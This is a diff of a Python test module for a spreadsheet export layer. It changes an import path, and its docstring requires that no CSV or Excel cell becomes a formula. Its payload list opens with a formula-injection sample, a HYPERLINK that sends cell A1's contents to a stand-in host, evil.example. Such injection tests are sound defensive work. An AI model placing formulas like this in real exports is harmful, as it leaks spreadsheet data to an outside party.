@@ -1,4 +1,4 @@
-"""The one way out to a spreadsheet (ops.spreadsheets): no cell of a CSV or Excel export
+"""The one way out to a spreadsheet (core.spreadsheets): no cell of a CSV or Excel export
 is a formula, whatever text it carries; numbers and dates stay numbers and dates."""
 
 import csv
@@ -9,7 +9,7 @@ from decimal import Decimal
 
 from openpyxl import load_workbook
 
-from ops.spreadsheets import csv_response, xlsx_response
+from core.spreadsheets import csv_response, xlsx_response
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
